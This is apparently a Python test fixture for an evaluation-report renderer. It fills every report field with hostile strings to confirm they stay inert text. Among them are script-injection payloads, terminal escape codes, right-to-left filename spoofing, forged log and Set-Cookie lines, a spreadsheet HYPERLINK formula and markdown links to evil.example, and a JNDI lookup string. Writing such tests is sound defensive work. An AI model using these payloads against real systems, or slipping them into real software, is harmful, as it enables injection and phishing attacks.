"""Content that a trace can hold and that must stay content."""

import json

from report_samples import FINDING, NOW, REGRESSION, change, failures, outcome, proposal

from evalspan.report import Report, build

HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "ansi": "\x1b[31mred\x1b]0;title\x07\x9b2J\r\x08",
    "right_to_left": "user\u202egnp.exe\u2066\u200f",
    "right_to_left_words": "\u05e9\u05dc\u05d5\u05dd 12 abc \u0645\u0631\u062d\u0628\u0627 % [3]",
    "wide": "\u6f22\u5b57" * 200,
    "forged_line": 'fine\n2026-03-01 level=error msg="all is lost"\r\nSet-Cookie: a=b',
    "formula": '=HYPERLINK("http://evil.example","click")',
    "markdown": "](http://evil.example) ![x](http://evil.example/x.png) | `code` **bold** # h",
    "fence": "```\nout of the fence\n`````",
    "mention": "@everyone @org/team, see #12 and a@b.example",
    "stacked": "z" + "\u0301" * 500 + "a" + "\ufe0f" * 500,
    "blank": "json\u3164\u2800\uffa0_schema",
    "table": "a | b |\n|---|---|\n| c \\| d \\",
    "endless": "x" * 1_000_000,
    "nothing": "\x00\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "template": "{{7*7}} ${jndi:ldap://evil} %s {trace_id}",
}


def hostile(text: str) -> Report:
    """A report with the text wherever a trace or a person can put one."""
    return build(
        {**REGRESSION, "check": text, "slice": json.dumps({text: text}), "old": text,
         "new": text, "view": text, "reason": text, "id": text},
        [{**FINDING, "title": text, "countermeasure": text, "prompt_diff": f"@@ -1 +1 @@\n+{text}"}
        ],
        outcome(
            summary=text,
            accepted=proposal(rationale=text, diff=f"@@ -1 +1 @@\n-{text}\n+{text} more"),
            rejected=[proposal(reason=text, mutator=text)],
            better=[change(reason=text, input=text, before=text, after=text, trace_id=text)],
            errors=[text],
        ),
        None,
        now=NOW,
        settings=None,
        revisions={text: text},
        failures=failures(text),
        states=[{"state": text, "detected_time": NOW, "reason": text}],
    )  # fmt: skip
